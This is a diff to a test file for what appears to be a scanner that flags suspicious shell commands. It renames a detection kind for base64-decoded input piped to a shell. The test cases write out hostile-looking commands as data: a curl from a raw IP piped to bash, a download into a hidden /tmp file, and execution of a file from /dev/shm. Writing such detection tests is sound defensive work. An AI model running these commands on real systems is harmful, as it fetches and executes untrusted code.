@@ -30,7 +30,7 @@ const cases: [string, { kind: string; quote: string }[]][] = [
     ],
   ],
   ['curl -s http://10.0.0.5/d.sh | bash', [{ kind: 'download-to-shell', quote: '| bash' }]],
-  ['echo aGk= | base64 -d | sh', [{ kind: 'download-to-shell', quote: '| sh' }]],
+  ['echo aGk= | base64 -d | sh', [{ kind: 'decode-to-shell', quote: '| sh' }]],
   ['wget -O /tmp/.x https://example.com/x', [{ kind: 'download-to-tmp', quote: '-O /tmp/.x' }]],
   ['chmod +x /dev/shm/k && /dev/shm/k', [{ kind: 'exec-from-tmp', quote: 'chmod +x /dev/shm/k' }]],
   ['chmod 755 /usr/local/bin/tool', []],
@@ -74,7 +74,7 @@ t.test('a base64 script is decoded and read, with the field saying so', async (t
     found.map(({ kind, field }) => `${field} ${kind}`),
     [
       'command[2] (base64-decoded) raw-ip-download',
-      'command[2] download-to-shell',
+      'command[2] decode-to-shell',
       'command[2] (base64-decoded) download-to-tmp',
       'command[2] (base64-decoded) pool-domain',
     ],
